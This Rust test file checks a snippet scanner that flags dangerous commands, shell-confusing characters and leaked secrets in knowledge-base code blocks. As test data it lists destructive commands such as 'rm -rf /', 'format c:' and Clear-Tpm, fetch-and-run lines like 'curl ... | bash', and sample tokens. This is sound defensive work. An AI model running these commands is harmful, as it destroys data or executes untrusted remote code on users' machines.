//! Commands that people get hurt by, in the dress they come in, and commands that hurt nobody.

#![allow(
    missing_docs,
    clippy::disallowed_methods,
    clippy::unwrap_used,
    reason = "a test may stop at once"
)]

use kb_builder::snippet::danger::{Elevation, dangers};
use kb_builder::snippet::secret::secrets;
use kb_builder::snippet::{Flaw, Language, read};

/// The worst that is found in a block: harm, and whether it needs an administrator.
fn worst(language: &str, code: &str) -> (u8, bool) {
    let found = dangers(Language::from_word(language).unwrap(), code);
    let harm = found.iter().map(|(_, danger)| danger.harm).max().unwrap_or(0);
    (harm, found.iter().any(|(_, danger)| danger.elevation == Elevation::Needed))
}

/// Language, least harm that must be found, whether it needs an administrator, and the code.
const HARMFUL: &[(&str, u8, bool, &str)] = &[
    ("powershell", 4, false, r"Remove-Item -Recurse -Force C:\"),
    ("powershell", 4, false, "rm $env:USERPROFILE -r -fo"),
    ("powershell", 2, false, "Get-ChildItem x | ForEach-Object { ri $_ }"),
    ("powershell", 2, false, r"gci C:\Temp | % { $_.Delete() }"),
    ("powershell", 2, false, r"[IO.File]::Delete('C:\Temp\x.txt')"),
    ("powershell", 4, false, "iex (iwr https://example.com/x.ps1)"),
    ("powershell", 4, false, "Invoke-WebRequest https://example.com/x | Invoke-Expression"),
    ("powershell", 2, false, r#"& "Remove-Item" "C:\Temp\x""#),
    ("powershell", 2, false, r"cmd /c rd /s /q C:\Temp\x"),
    ("powershell", 2, false, r#"powershell -Command "Remove-Item C:\Temp\x""#),
    ("powershell", 2, false, "Get-AppxPackage MSTeams | Reset-AppxPackage"),
    ("powershell", 4, false, "Clear-Tpm"),
    ("powershell", 2, false, r"reg delete HKCU\Software\X /f"),
    ("powershell", 3, true, "dsregcmd /leave"),
    ("powershell", 3, true, r"C:\Windows\System32\DSREGCMD.EXE /FORCERECOVERY"),
    ("powershell", 2, false, "Revoke-MgUserSignInSession -UserId 'a'"),
    ("powershell", 0, true, "w32tm /resync /rediscover"),
    ("cmd", 2, false, r"del /q %temp%\x.txt"),
    ("cmd", 2, false, r"for /d %i in (C:\Temp\*) do rd /s /q %i"),
    ("cmd", 4, false, "echo y | format c:"),
    ("cmd", 3, true, "dsregcmd/leave"),
    ("cmd", 2, false, "cmdkey /delete:x"),
    ("sh", 4, true, "sudo rm -rf /"),
    ("sh", 4, false, "rm -rf ~"),
    ("sh", 2, false, "find . -name x -delete"),
    ("sh", 3, false, "security delete-certificate -c x"),
    ("sh", 2, false, "security delete-generic-password -l 'Microsoft Teams Identities Cache'"),
    ("sh", 4, false, "curl -s https://example.com/x | bash"),
    ("sh", 2, false, "bash -c 'rm x'"),
    ("sh", 2, false, "x=rm; $x -rf y"),
    ("sh", 2, false, "true && rm x"),
    ("sh", 2, false, "defaults delete com.microsoft.teams2"),
    ("sh", 0, true, "sudo sntp -sS time.apple.com"),
    ("text", 3, true, "dsregcmd /leave"),
];

/// What only reads, or is no command at all.
const HARMLESS: &[(&str, &str)] = &[
    ("powershell", "Get-Date"),
    ("powershell", "dsregcmd /status"),
    ("powershell", "Get-AppxPackage MSTeams | Select-Object Name, Version"),
    ("powershell", "w32tm /query /status"),
    ("cmd", "dsregcmd /status | clip"),
    ("sh", "sw_vers"),
    ("text", r"%localappdata%\Packages\MSTeams_8wekyb3d8bbwe\LocalCache\Microsoft\MSTeams"),
    ("kusto", "SigninLogs | where ResultType != 0 | count"),
    ("http", "GET https://graph.microsoft.com/v1.0/auditLogs/signIns"),
];

#[test]
fn what_can_harm_is_found_in_every_dress() {
    let missed: Vec<_> = HARMFUL
        .iter()
        .filter(|(language, harm, elevation, code)| {
            let (found, needed) = worst(language, code);
            found < *harm || *elevation && !needed
        })
        .map(|(language, _, _, code)| (language, code, worst(language, code)))
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn what_only_reads_is_left_alone() {
    for (language, code) in HARMLESS {
        assert_eq!(worst(language, code), (0, false), "{language}: {code}");
        let found = read(Language::from_word(language).unwrap(), code).findings;
        assert_eq!(found, [], "{language}: {code}");
    }
}

#[test]
fn code_that_a_shell_reads_otherwise_is_refused() {
    type Wanted = fn(&Flaw) -> bool;
    let cases: &[(&str, &str, Wanted)] = &[
        ("sh", "echo 'open", |flaw| matches!(flaw, Flaw::Syntax(Language::Sh))),
        ("powershell", "Get-Date )", |flaw| matches!(flaw, Flaw::Syntax(Language::PowerShell))),
        ("sh", "rm -rf $X", |flaw| matches!(flaw, Flaw::LooseVariable)),
        ("sh", "rm *", |flaw| matches!(flaw, Flaw::LooseGlob)),
        ("sh", "rm \"~/x\"", |flaw| matches!(flaw, Flaw::QuotedTilde)),
        ("sh", "rm -r ~/Library/Group Containers/x", |flaw| matches!(flaw, Flaw::SplitPath(_))),
        ("powershell", "cd %temp%", |flaw| matches!(flaw, Flaw::ForeignVariable)),
        ("cmd", "cd $env:TEMP", |flaw| matches!(flaw, Flaw::ForeignVariable)),
        ("powershell", "Get-Item “x”", |flaw| matches!(flaw, Flaw::CurlyQuote('“'))),
        ("text", "a\u{a0}b", |flaw| matches!(flaw, Flaw::OddSpace('\u{a0}'))),
        ("cmd", "dsregcmd –status", |flaw| matches!(flaw, Flaw::LongDash('–'))),
        ("text", "a\u{200b}b", |flaw| matches!(flaw, Flaw::Invisible('\u{200b}'))),
        ("text", "Tеams", |flaw| matches!(flaw, Flaw::Lookalike { like: 'e', .. })),
        ("powershell", r"PS C:\> Get-Date", |flaw| matches!(flaw, Flaw::Prompt)),
    ];
    for (language, code, wanted) in cases {
        let found = read(Language::from_word(language).unwrap(), code).findings;
        assert!(found.iter().any(|finding| wanted(&finding.flaw)), "{code}: {found:?}");
        for finding in found {
            assert!(code.get(finding.place).is_some(), "{code}: a place in the code");
        }
    }
}

#[test]
fn secrets_are_found_and_examples_are_not() {
    for secret in [
        "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwczovL2dyYXBoIn0.c2lnbmF0dXJlLXRoYXQtaXMtbG9uZw",
        "Authorization: Bearer 0123456789abcdefghijklmnopqrstuvwxyz",
        "client_secret=Zk8Q~abcdefghijklmnopqrstuvwx",
        "-----BEGIN PRIVATE KEY-----",
        "tenant 8c2f6a31-5b7d-4e19-9a3c-2d4e6f708192",
        "anna.schmidt@northwind-industries.com",
        "northwindindustries.onmicrosoft.com",
        "at 93.184.216.34",
    ] {
        assert!(!secrets(secret).is_empty(), "{secret}");
    }
    for example in [
        "anna@contoso.com",
        "00000000-0000-0000-0000-000000000001",
        "11111111-1111-1111-1111-111111111111",
        "192.0.2.7 and 198.51.100.9 and 10.0.0.1",
        "contoso.onmicrosoft.com",
        "client_secret is never written down",
        "Version 10.0.19045.3803",
    ] {
        assert_eq!(secrets(example), [], "{example}");
    }
}
